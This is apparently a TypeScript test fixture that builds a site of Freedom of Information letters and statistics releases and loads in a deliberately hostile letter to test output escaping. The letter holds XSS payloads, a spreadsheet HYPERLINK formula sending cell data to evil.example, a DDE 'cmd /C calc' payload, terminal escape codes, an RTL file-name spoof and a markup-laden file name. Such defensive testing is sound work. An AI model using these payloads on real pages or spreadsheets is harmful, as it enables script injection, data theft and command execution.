/** A site on a warehouse of its own: the sample's letters, a hostile one, and two releases of which the later suppresses. */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { openArchive } from "../../src/extract/archive.ts";
import { openWarehouse } from "../../src/load/warehouse.ts";
import { type SiteServer, startSiteServer } from "../../src/serve/pages/server.ts";
import { startStandInEes } from "../stand-in-ees/server.ts";
import { addRealLetters, backfillInto, makeRelease } from "./answering.ts";
import { replaceCell, SAMPLE } from "./sample-release.ts";
import { makeWarehouse, type TestSetting, type WarehouseKind } from "./warehouses.ts";

export interface TestSite {
  setting: TestSetting;
  server: SiteServer;
  /** Rows of a query, through the site's own warehouse: the embedded one is open to one process only. */
  rows(sql: string): Promise<Record<string, unknown>[]>;
  /** What went wrong while pages were made. */
  faults: unknown[];
  /** Closes the server, so that commands can open the embedded warehouse; the setting stays. */
  close(): Promise<void>;
}

const ESCAPE = "\u001b";

/** Script, formulas, escape codes, links that are none, in every place that a page, a table or a terminal shows. */
export const HOSTILE_LETTER = `Coventry City Council
Information Governance

10 June 2022

Request reference: FOI-"><script>window.pwned=1</script>

Freedom of Information Act 2000

Thank you for your request. Each question is repeated below with our answer.

1. How many referrals did your children's services receive in 2020/21? <img src=x onerror="window.pwned=2">

5,700

2. Which system holds the referrals "><svg onload=window.pwned=3>?

=HYPERLINK("http://evil.example/?"&A1,"click") <script src="http://evil.example/x.js"></script>

3. Who leads the service?

@SUM(1+1)*cmd|' /C calc'!A0 ${ESCAPE}[31mred${ESCAPE}[0m ${ESCAPE}]0;title\u0007 \u202Egnp.exe

4. Where is your policy on referrals?

This is exempt under section 21: it is accessible at javascript:window.pwned=4 and https://evil.example/"onmouseover="window.pwned=5

Yours sincerely
Information Governance
`;

/** Coventry's row of the year to 31 March 2020 in C1: printed in 2021, suppressed in 2022. */
const suppress = (code: string, text: string) =>
  code === "C1" ? replaceCell(text, { year: "2020", laName: "Coventry" }, "Referrals", "c") : text;

export async function makeSite(kind: WarehouseKind): Promise<TestSite> {
  const ees = await startStandInEes({ releases: [makeRelease("2021"), makeRelease("2022", suppress)] });
  const folder = mkdtempSync(join(tmpdir(), "s21-hostile-"));
  const setting = await makeWarehouse(kind, { S21_EES_API: ees.url });
  try {
    writeFileSync(join(folder, "<b>=1+1.txt"), HOSTILE_LETTER);
    await addRealLetters(setting, [join(SAMPLE, "letters"), folder]);
    await backfillInto(setting);
  } finally {
    await ees.close();
    rmSync(folder, { recursive: true, force: true });
  }
  const warehouse = await openWarehouse(setting.config);
  const faults: unknown[] = [];
  const server = await startSiteServer(
    { warehouse, archive: openArchive(setting.config.dataDir), onFault: (error) => faults.push(error) },
    { host: "127.0.0.1", port: 0 },
  );
  return {
    setting,
    server,
    faults,
    rows: async (sql) => (await warehouse.query(sql)).rows,
    async close() {
      await server.close();
      await warehouse.close();
    },
  };
}
